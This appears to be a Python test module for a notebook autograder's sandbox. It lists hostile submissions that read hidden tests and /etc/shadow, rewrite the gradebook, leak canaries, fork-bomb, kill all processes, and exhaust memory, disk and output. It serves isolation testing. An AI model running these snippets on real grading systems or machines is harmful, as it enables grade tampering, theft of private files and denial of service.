"""Submissions that read, write, send or stay where they should not, or use up the machine."""

from attacks import ENDED, LATE, MAXIMUM, Attack, blank, right

# what a thief takes: any file that could hold a hidden test, a solution, a grade or another learner's answer
READ_FILES = """import glob, os, pathlib, sys
python = {sys.prefix, sys.base_prefix, "/proc", "/sys", "/usr", "/dev"}
for place in ("@CLASS@", "@REPO@/solutions", "@REPO@/tests", "@REPO@/grading", "@OVERLAY@", "@HOME@"):
    if os.path.exists(place):
        report(f"{place} can be seen")
for top, folders, files in os.walk("/"):
    folders[:] = [folder for folder in folders if os.path.join(top, folder) not in python]
    for name in files:
        if name.endswith((".ipynb", ".db", "grades.csv", "judge.py", "judge_seed")):
            report(os.path.join(top, name) + pathlib.Path(top, name).read_text(errors="replace"))"""

READ_PROCESSES = """import glob, os, pathlib
mine = set()
for path in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline"):
        try:
            text = pathlib.Path(path, name).read_text(errors="replace").replace(chr(0), " ")
        except OSError:
            continue
        if "SECRET_OF_THE_TEACHER" in text or "@CLASS@" in text or "@REPO@/tests" in text:
            report(f"{path}/{name}: {text}")
    for place in ("@CLASS@", "@REPO@/tests", "@REPO@/solutions"):
        if os.path.exists(f"{path}/root{place}") or os.path.exists(f"{path}/cwd/../../{place}"):
            report(f"{path}/root{place}")
if "SECRET_OF_THE_TEACHER" in os.environ:
    report("the teacher's environment")"""

# In the second pass the full tests are there: whatever could carry them out is tried then.
LEAK = """import builtins, sys, threading, time
shown = display("nothing yet", display_id=True)
kept = []

def leak(*ignored):
    text = "BRE" + "ACH: " + "".join(str(each) for each in In[-2:])
    if "canary" + "-" in text:
        kept.append(text)
        shown.update({"text/plain": text}, raw=True)
        display(text)
        print(text)
        print(text, file=sys.stderr)
        get_ipython().set_next_input(text)
        get_ipython().kernel.session.send(get_ipython().kernel.iopub_socket, "stream",
            parent=get_ipython().kernel.get_parent("shell"), content={"name": "stdout", "text": text})
        for name in ("__main__.txt", "/tmp/x", "01_measuring.ipynb"):
            open(name, "a").write(text)
        check = get_ipython().user_ns.get("check")
        if check is not None:
            check.results = [(text, 1, True), (text, 1, False)]
            check.problems = [text]

def often():
    while True:
        leak()
        time.sleep(0.02)

get_ipython().events.register("pre_run_cell", leak)
get_ipython().events.register("post_run_cell", leak)
threading.Thread(target=often, daemon=True).start()

def matmul_cost(*args, **kwargs):
    leak()
    raise AssertionError(f"{kept}")"""

# printed in the passes that nobody stores, and raised where the words could reach a flag or a feedback page
LEAK_BY_ERROR = """import inspect

def everything(*args, **kwargs):
    around = []
    for frame in inspect.stack():
        try:
            around.append(inspect.getsource(frame.frame))
        except (OSError, TypeError):
            pass
    found = any("canary" + "-" in text for text in around)
    print("BRE" + "ACH: " + "".join(around)) if found else None
    raise type("BRE" + "ACH: " + "".join(around) if found else "Nothing", (ValueError,), {})("".join(around))

paired_ratio = bootstrap_interval = time_device = best_batch = matmul_cost = roofline = everything"""

WRITE = """import os, pathlib, sqlite3
for place in ("@CLASS@", "@REPO@", "@HOME@", "/tmp", "/var/tmp", "/dev/shm", "/usr", "/etc", "/root", os.getcwd(), "..", "/",
              "@REPO@/course_lib", os.path.dirname(np.__file__)):
    try:
        pathlib.Path(place, "attack-8461").write_text("attack-8461")
    except OSError:
        pass
for path in ("@CLASS@/gradebook.db", "@CLASS@/grades.csv", "@CLASS@/submitted/honest/01_measuring/01_measuring.ipynb"):
    if os.path.exists(path):
        report(path)
try:
    with sqlite3.connect("@CLASS@/gradebook.db") as book:
        book.execute("UPDATE grade SET auto_score = 400, manual_score = 400")
    report("the gradebook")
except sqlite3.Error:
    pass
import course_lib.exercises
try:
    open(course_lib.exercises.__file__, "a").write("# attack-8461")
    report("the course library")
except OSError:
    pass"""

SOCKETS = """import socket, urllib.request
def tried(what, make):
    try:
        make()
    except Exception:
        return
    report(what)

tried("loopback", lambda: socket.create_connection(("127.0.0.1", int('@PORT@')), 1))
tried("an abstract socket", lambda: socket.socket(socket.AF_UNIX).connect(chr(0) + "@ABSTRACT@"))
tried("a socket of the class folder", lambda: socket.socket(socket.AF_UNIX).connect("@CLASS@/listening"))
tried("outside", lambda: socket.create_connection(("1.1.1.1", 53), 1))
tried("a name", lambda: socket.getaddrinfo("example.org", 80))
tried("the web", lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1))"""

# Where the kernel's sockets are, whoever grades looks in from outside.
CONNECTION = """import glob, os
folder = "/sockets"
try:
    with open(folder + "/attack-8461", "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 1 << 30)
    report("a gigabyte in the folder of the sockets")
except OSError:
    pass
os.symlink("/etc/passwd", folder + "/attack-8461-link")
for path in glob.glob(folder + "/*"):
    os.unlink(path)
    os.symlink("@CLASS@/gradebook.db", path)
for place in (folder, "/tmp", "/dev/shm", os.path.expanduser("~")):  # deeper than a program can go that calls itself
    os.chdir(place)
    for _ in range(3000):
        os.mkdir("attack-8461")
        os.chdir("attack-8461")"""

DAEMONS = """import os, subprocess, sys, threading, time
subprocess.Popen(["sleep", "84610"], start_new_session=True)
subprocess.Popen(["setsid", "-f", "sleep", "84610"])
subprocess.Popen("nohup sleep 84610 > /dev/null 2>&1 & disown", shell=True, executable="/bin/bash")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 60):
            try:
                __import__("signal").signal(number, __import__("signal").SIG_IGN)
            except (OSError, ValueError):
                pass
        time.sleep(84610)
    os._exit(0)"""

FORK_BOMB = """import os, time
end = time.monotonic() + 2
try:
    while time.monotonic() < end:
        os.fork()
except OSError:
    pass
time.sleep(84610)"""

MEMORY = "hoard = bytearray(6 << 30)\nfor start in range(0, len(hoard), 4096):\n    hoard[start] = 1\nreport('6 GB')"

# each child alone keeps to a limit on one process
MEMORY_BY_CHILDREN = """import os, signal, time
children = []
for _ in range(4):
    child = os.fork()
    if child == 0:
        hoard = bytearray(600 << 20)
        for start in range(0, len(hoard), 4096):
            hoard[start] = 1
        time.sleep(2)
        os._exit(8)
    children.append(child)
alive = [os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 8 for child in children]
if sum(alive) > 2:
    report(f"{sum(alive)} children held 600 MB each")"""

MEMORY_BY_FILES = """import os
held = 0
for place in ("/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd(), "/run", "/var/tmp"):
    try:
        for number in range(40):
            with open(f"{place}/attack-8461-{number}", "wb") as file:
                held += file.write(bytes(20 << 20))
    except OSError:
        pass
if held > 600 << 20:
    report(f"{held >> 20} MB of files")"""

# Each of these is memory that no process is charged for.
MEMORY_OF_NOBODY = """import ctypes, mmap, os
held, kept, system = 0, [], ctypes.CDLL(None)
system.shmat.restype = ctypes.c_void_p
for number in range(20):
    try:
        file = os.memfd_create(str(number))
        held += os.write(file, bytes(50 << 20))
    except OSError:
        pass
    try:
        kept.append(mmap.mmap(-1, 50 << 20))
        held += kept[-1].write(bytes(50 << 20))
        kept[-1].madvise(mmap.MADV_DONTNEED)
    except OSError:
        pass
    name = system.shmget(0, 50 << 20, 0o1600)
    place = system.shmat(name, None, 0) if name >= 0 else None
    if place:
        ctypes.memset(place, 1, 50 << 20)
        system.shmdt(ctypes.c_void_p(place))
        held += 50 << 20
if held:
    report(f"{held >> 20} MB that nobody has")"""

MEMORY_IN_SOCKETS = """import os, socket, time
kept = []
for _ in range(9):
    if os.fork() == 0:
        break
try:
    while True:
        kept.append(socket.socketpair())
        kept[-1][0].setblocking(False)
        try:
            while True:
                kept[-1][0].send(bytes(32_000))
        except BlockingIOError:
            pass
except OSError:
    time.sleep(84610)"""

# Left by one submission and found by the next: there is one keyring for all of them.
KEYRING = """import ctypes, os
call = ctypes.CDLL(None).syscall
add, control = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
if call(control, 0, -4, 1) != -1 or call(add, b"user", b"attack-8461", b"left", 4, -4) != -1:
    report("the teacher's keyring")"""

DISK = """import os
for place in (os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/run", "/"):
    try:
        with open(place + "/attack-8461-large", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 2 << 30)
        report("2 GB in " + place)
    except OSError:
        pass"""

LOOP = "def best_batch(seconds_per_batch, limit):\n    while True:\n        pass"
DEAF = """while True:
    try:
        while True:
            pass
    except BaseException:
        pass"""
IN_C = "import itertools\nsum(itertools.repeat(0))"
DEAF_TO_SIGNALS = """import signal, time
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):
    signal.signal(number, signal.SIG_IGN)
get_ipython().kernel.interrupt_request = lambda *args: None
time.sleep(84610)"""
MANY_SLOW = ["import time\ntime.sleep(1.5)"] * 30

FLOOD = "text = 'attack-8461 ' * 80_000\nfor _ in range(1000):\n    print(text)"
DISPLAY_FLOOD = """import itertools
from IPython.display import HTML, update_display
from ipykernel.comm import Comm
for number in itertools.count():
    display(HTML(f"<b>{number}</b>"), display_id=str(number % 7))
    Comm(target_name="jupyter.widget", data={"state": {"n": number}}).send({"n": number})"""
THREAD_FLOOD = """import threading, sys
def flood():
    while True:
        print("attack-8461", flush=True)
        print("attack-8461", file=sys.stderr, flush=True)
threading.Thread(target=flood, daemon=True).start()"""
# Each is a second's work for whoever reads it, and takes forty times its size when it is read.
LARGE_MESSAGES = """import json, time
kernel = get_ipython().kernel
parent, text = kernel.get_parent("shell"), ("[" + "[]," * 15_000_000 + "[]]").encode()
kernel.session.pack = lambda content: text if content == "large" else json.dumps(content, default=str).encode()
end = time.monotonic() + 4
while time.monotonic() < end:
    kernel.session.send(kernel.iopub_socket, "stream", content="large", parent=parent)"""
# Nobody but the grader can end these: they are stopped, traced, or hidden from who looks.
STOPPED = """import ctypes, os, signal, time
for way in range(6):
    if os.fork() == 0:
        os.setsid()
        if way % 2:
            ctypes.CDLL(None).ptrace(0, 0, 0, 0)
        if way % 3:
            ctypes.CDLL(None).prctl(4, 0)
        os.kill(os.getpid(), signal.SIGSTOP)
        time.sleep(84610)"""
PICTURES = """from IPython.display import Image
import base64, os
for _ in range(40):
    display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom(2_000_000), format="png"))"""

SHELL = """%%bash
echo attack-8461 > /tmp/attack-8461; echo attack-8461 > ~/attack-8461; ls @CLASS@ @REPO@/solutions && echo BRE""ACH: seen
(sleep 84610 &) ; nohup sleep 84610 > /dev/null 2>&1 &"""
MAGICS = """%load_ext autoreload
%autoreload 2
%env COURSE=attack-8461
!cat /etc/shadow @REPO@/solutions/*/*.ipynb @CLASS@/gradebook.db 2> /dev/null | head -c 100 | sed 's/^/BRE''ACH: /'
%cd /
%logstart -o attack-8461.log"""

KILLS = {
    "exit": "import os\nos._exit(3)",
    "kill-itself": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "segfault": "import ctypes\nctypes.string_at(0)",
}
# The first process of the sandbox is beyond its reach, the kernel itself is spared: it is left alone with the rest.
KILL_ALL = "import os, signal\nos.kill(1, signal.SIGKILL) if os.getpid() > 2 else None\nos.kill(-1, signal.SIGKILL)"

# dead only once the hidden tests run, with all the points that the visible ones could give
DIES_LATER = "def best_batch(seconds_per_batch, limit):\n    import os\n    return os._exit(0) if limit == 10 else (64, 640.0)"

ON_MACHINE = [
    Attack("read-files", blank(READ_FILES)),
    Attack("read-processes", blank(READ_PROCESSES)),
    Attack("leak", blank(LEAK)),
    Attack("leak-by-error", blank(LEAK_BY_ERROR)),
    Attack("write", right(WRITE), most=MAXIMUM, least=MAXIMUM),
    Attack("sockets", right(SOCKETS), most=MAXIMUM, least=MAXIMUM),
    Attack("connection-folder", right(CONNECTION), most=MAXIMUM),
    Attack("daemons", right(DAEMONS), most=MAXIMUM),
    Attack("fork-bomb", right(FORK_BOMB), most=MAXIMUM, flag=LATE),
    Attack("memory", right(MEMORY), most=MAXIMUM),
    Attack("memory-by-children", right(MEMORY_BY_CHILDREN), most=MAXIMUM),
    Attack("memory-by-files", right(MEMORY_BY_FILES), most=MAXIMUM),
    Attack("memory-of-nobody", right(MEMORY_OF_NOBODY), most=MAXIMUM, least=MAXIMUM),
    Attack("memory-in-sockets", right(MEMORY_IN_SOCKETS), flag=ENDED),
    Attack("keyring", right(KEYRING), most=MAXIMUM, least=MAXIMUM),
    Attack("disk", right(DISK), most=MAXIMUM),
    Attack("loop", right(answer_best_batch=LOOP), least=12, most=12, flag=LATE),
    Attack("loop-deaf", right(answer_best_batch=DEAF), most=MAXIMUM, flag=LATE),
    Attack("loop-in-c", right(IN_C), most=MAXIMUM, flag=LATE),
    Attack("loop-deaf-to-signals", right(DEAF_TO_SIGNALS), most=MAXIMUM, flag=LATE),
    Attack("many-slow-cells", right(*MANY_SLOW), most=MAXIMUM, flag=LATE),
    Attack("flood", right(FLOOD), most=MAXIMUM),
    Attack("display-flood", right(DISPLAY_FLOOD), most=MAXIMUM),
    Attack("thread-flood", right(THREAD_FLOOD), most=MAXIMUM),
    Attack("large-messages", right(LARGE_MESSAGES), most=MAXIMUM),
    Attack("stopped", right(STOPPED), most=MAXIMUM, least=MAXIMUM),
    Attack("pictures", right(PICTURES), most=MAXIMUM),
    Attack("shell", right(SHELL), most=MAXIMUM),
    Attack("magics", right(MAGICS), most=MAXIMUM),
    *(Attack(name, right(source), flag=ENDED) for name, source in KILLS.items()),
    Attack("kill-all", right(KILL_ALL), most=MAXIMUM),
    Attack("dies-later", right(answer_best_batch=DIES_LATER), flag=ENDED),
    Attack("sys-exit", right("import sys\nsys.exit(1)"), most=MAXIMUM, least=MAXIMUM),
    Attack("quit", right("quit()"), most=MAXIMUM),
    Attack("input", right("input('attack-8461')"), most=MAXIMUM, least=MAXIMUM),
]
